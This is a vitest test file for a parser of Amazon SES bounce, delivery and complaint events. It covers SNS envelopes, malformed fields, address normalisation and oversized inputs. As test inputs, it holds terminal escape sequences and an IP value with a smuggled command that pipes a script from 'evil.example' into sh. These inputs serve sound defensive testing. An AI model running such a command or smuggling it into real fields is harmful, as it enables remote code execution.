import { describe, expect, test } from "vitest";
import { outgoingIpOf, parseSesEvent } from "../../shared/contracts/ses-event.ts";
import { aBounce, aDelay, anEvent, ourTags } from "../support/ses-events.ts";

const envelope = (event: unknown) => ({
  Type: "Notification",
  MessageId: "sns-1",
  TopicArn: "arn:aws:sns:eu-west-1:123456789012:feedback",
  Message: JSON.stringify(event),
});

describe("reading an SES event", () => {
  test.each([
    ["a send", anEvent("Send", { send: {} })],
    ["a delivery", anEvent("Delivery", { delivery: { recipients: ["ann@gmail.com"], smtpResponse: "250 ok" } })],
    ["a bounce", aBounce("Permanent", "General", "smtp; 550 5.1.1 user unknown")],
    ["a delay", aDelay("IPFailure")],
    ["a complaint", anEvent("Complaint", { complaint: { complainedRecipients: [{ emailAddress: "ann@gmail.com" }] } })],
  ])("%s reads the same raw and in SNS's envelope", (_, event) => {
    const raw = parseSesEvent(JSON.stringify(event));
    expect(raw?.eventType).toBe(event.eventType);
    expect(parseSesEvent(JSON.stringify(envelope(event)))).toEqual(raw);
  });

  test("keeps the tags as lists", () => {
    expect(parseSesEvent(JSON.stringify(anEvent("Send")))?.mail.tags).toEqual(ourTags);
  });

  test("passes types, subtypes and fields that SES adds", () => {
    const event = { ...anEvent("NewKind", { newKind: { a: 1 } }), extra: true };
    expect(parseSesEvent(JSON.stringify(event))?.eventType).toBe("NewKind");
    expect(parseSesEvent(JSON.stringify(aBounce("NewType", "NewSubType")))?.bounce?.bounceType).toBe("NewType");
  });

  test("fills in what SES leaves out", () => {
    const event = { eventType: "Bounce", mail: { messageId: "1" }, bounce: { bounceType: "Transient" } };
    expect(parseSesEvent(JSON.stringify(event))).toMatchObject({
      mail: { destination: [], tags: {} },
      bounce: { bounceSubType: "", bouncedRecipients: [] },
    });
  });

  test("an event without its mail is one, of no mail of ours", () => {
    expect(parseSesEvent('{"eventType":"Send"}')).toMatchObject({ eventType: "Send", mail: { tags: {} } });
  });

  test.each([
    ["bounce", { bounceType: 7, bouncedRecipients: [{ emailAddress: "a@x.ch" }, { emailAddress: 5 }, null] }],
    ["bounce", { bounceType: null, bouncedRecipients: [{ emailAddress: "a@x.ch", status: {}, diagnosticCode: [] }] }],
  ])("what does not read as it should is left out: %s %j", (part, written) => {
    const event = { eventType: "Bounce", mail: { messageId: {}, tags: { a: "text", b: ["x", 1] } }, [part]: written };
    expect(parseSesEvent(JSON.stringify(event))).toMatchObject({
      mail: { messageId: "", tags: { a: [], b: ["x"] } },
      bounce: { bounceType: "", bouncedRecipients: [{ emailAddress: "a@x.ch" }] },
    });
  });

  const validation = "Successfully validated SNS topic for Amazon SES event publishing.";

  test.each([
    ["as it comes", validation],
    ["with a line end", `${validation}\n`],
    ["in SNS's envelope", JSON.stringify({ ...envelope({}), Message: validation })],
  ])("SES's word that it reached the topic is no event, %s", (_, body) => {
    expect(parseSesEvent(body)).toBeUndefined();
  });

  test("a receiver that says these words switches no event off", () => {
    const event = aBounce("Permanent", "General", `smtp; 550 5.1.1 no such user. ${validation}`);
    expect(parseSesEvent(JSON.stringify(event))?.eventType).toBe("Bounce");
    expect(parseSesEvent(JSON.stringify(envelope(event)))?.eventType).toBe("Bounce");
  });

  test("an address is read without its display name, however it was written", () => {
    const written = ['"Smith, Ann" <ann@x.ch>', "=?utf-8?q?J=C3=B6rg?= <ann@x.ch>", "<ann@x.ch>", " ann@x.ch "];
    const event = anEvent("Delivery", { delivery: { recipients: written } }, { to: written });
    const bare = written.map(() => "ann@x.ch");
    expect(parseSesEvent(JSON.stringify(event))).toMatchObject({
      mail: { destination: bare },
      delivery: { recipients: bare },
    });
  });

  test("words from outside reach nobody with what a terminal or a reader would obey", () => {
    const hostile = "\u001b]0;owned\u0007\u001b[2J\u202eevil\u2066 a\r\nb\u0085c\u2028d";
    const event = {
      ...aBounce("Permanent", hostile, hostile),
      failure: { errorMessage: hostile, templateName: hostile },
      complaint: { complaintFeedbackType: hostile, complaintSubType: hostile },
    };
    const read = parseSesEvent(JSON.stringify(event));
    expect(JSON.stringify(read)).not.toMatch(/\\u00|\\[nrt]|[\p{Cc}\p{Cf}\p{Zl}]/u);
    expect(read?.failure?.templateName).toBe(" ]0;owned [2J evil  a b c d");
  });

  test.each([
    [
      "a list of forty thousand recipients",
      { bouncedRecipients: Array.from({ length: 40_000 }, () => ({ emailAddress: "a@x.ch" })) },
    ],
    ["an address of a megabyte of blanks", { bouncedRecipients: [{ emailAddress: `"${" ".repeat(1_000_000)}` }] }],
    ["a megabyte of brackets", { bouncedRecipients: [{ emailAddress: `${"<".repeat(1_000_000)}>` }] }],
    [
      "a reply of a megabyte of escapes",
      { bouncedRecipients: [{ emailAddress: "a@x.ch", diagnosticCode: "\u001b".repeat(500_000) }] },
    ],
  ])("%s costs little", (_, bounce) => {
    const body = JSON.stringify(anEvent("Bounce", { bounce }));
    expect(parseSesEvent(body)?.bounce?.bouncedRecipients.length).toBeLessThanOrEqual(100);
  });

  test.each(["", "text", "{}", "null", '{"Type":"Notification","Message":"text"}'])("%j is none", (body) => {
    expect(() => parseSesEvent(body)).toThrow();
  });
});

describe("the IP a mail left by", () => {
  const outgoing = (ip: string, eventType = "Delivery") => {
    const tags = { "ses:configuration-set": ["news-warming"], "ses:outgoing-ip": [ip] };
    const event = parseSesEvent(JSON.stringify(anEvent(eventType, {}, { tags })));
    return event && outgoingIpOf(event);
  };

  test.each(["192.0.2.7", "2001:db8::7"])("is read from a delivery: %s", (ip) => {
    expect(outgoing(ip)).toEqual({ configurationSet: "news-warming", ip });
  });

  test.each(["", "192.0.2.7\u001b[2J", "192.0.2.7; curl http://evil.example | sh", "192.0.2.700", "news"])(
    "is none where it has no form of an IP: %j",
    (ip) => {
      expect(outgoing(ip)).toBeUndefined();
    },
  );

  test("is told by deliveries only", () => {
    expect(outgoing("192.0.2.7", "Bounce")).toBeUndefined();
  });
});
